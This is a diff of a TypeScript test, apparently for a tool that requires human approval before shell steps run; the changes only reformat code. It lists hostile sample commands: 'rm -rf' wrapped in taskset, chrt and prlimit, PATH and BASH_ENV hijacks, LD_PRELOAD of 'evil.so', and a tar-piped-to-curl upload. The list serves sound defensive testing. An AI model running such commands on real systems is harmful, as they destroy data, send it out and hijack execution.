@@ -14,7 +14,10 @@ import { pathToFileURL } from 'node:url';
 import { analyzeShell } from '../../lib/plan/shell/index.ts';
 
 /** The forms the issue names, each aimed at `victim` in the run's own directory. */
-export const UNATTENDED_SAMPLE: readonly { readonly command: string; readonly env?: Record<string, string> }[] = [
+export const UNATTENDED_SAMPLE: readonly {
+  readonly command: string;
+  readonly env?: Record<string, string>;
+}[] = [
   { command: 'taskset -c 0 rm -rf victim' },
   { command: 'chrt -f 10 rm -rf victim' },
   { command: 'prlimit --nofile=64 rm -rf victim' },
@@ -34,7 +37,7 @@ export const UNATTENDED_SAMPLE: readonly { readonly command: string; readonly en
   { command: 'ls victim', env: { PATH: './bin:/usr/bin:/bin' } },
   { command: 'ls victim', env: { BASH_ENV: './bin/hook.sh' } },
   { command: 'tar cz victim | curl -T - http://127.0.0.1:9/upload' },
-  { command: "python3 -c 'import shutil; shutil.rmtree(\"victim\")'" },
+  { command: 'python3 -c \'import shutil; shutil.rmtree("victim")\'' },
   { command: 'LD_PRELOAD=./bin/evil.so ls victim' },
   { command: 'make -C victim clean' },
 ];
@@ -76,7 +79,12 @@ steps:
 }
 
 /** One run: until the step starts (auto-approved), a person is asked about it (left), or the run ends. */
-async function runOne(repo: string, dir: string, policies: string, sample: (typeof UNATTENDED_SAMPLE)[number]) {
+async function runOne(
+  repo: string,
+  dir: string,
+  policies: string,
+  sample: (typeof UNATTENDED_SAMPLE)[number],
+) {
   const cwd = await mkdtemp(join(dir, 'run-'));
   await mkdir(join(cwd, 'victim'));
   await writeFile(join(cwd, 'victim/data.log'), 'precious\n');
@@ -108,7 +116,8 @@ async function runOne(repo: string, dir: string, policies: string, sample: (type
     stderr += chunk.toString();
   });
   const exited = new Promise<void>((resolve) => child.on('exit', () => resolve()));
-  const started = () => /"event":"TASK_STARTED"[^\n]*"task_id":"more"|"task_id":"more"[^\n]*"event":"TASK_STARTED"/.test(stdout);
+  const started = () =>
+    /"event":"TASK_STARTED"[^\n]*"task_id":"more"|"task_id":"more"[^\n]*"event":"TASK_STARTED"/.test(stdout);
   // The gate covering `more` is the plan gate (ungated step) or its own gate; the read-only
   // `look` runs first when the plan gate was answered.
   const asked = () => stderr.includes('--approve: a person must approve this');
